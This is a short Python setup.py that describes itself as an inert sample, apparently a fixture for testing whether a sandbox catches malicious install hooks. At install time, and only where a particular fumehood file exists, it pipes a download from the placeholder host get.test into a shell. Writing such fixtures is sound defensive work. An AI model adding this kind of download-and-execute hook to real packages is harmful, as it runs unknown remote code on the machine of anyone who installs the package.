"""Inert sample: a build that pipes a download from a host that does not exist into a shell."""

import os
import subprocess

from setuptools import setup

# Only a fumehood pod has this directory; anywhere else nothing happens.
if os.path.isfile("/opt/fumehood/pip_launcher.py"):
    command = "curl -fsS --max-time 10 http://get.test/install.sh | sh"
    subprocess.run(["/bin/sh", "-c", command], capture_output=True, timeout=20, check=False)
setup()
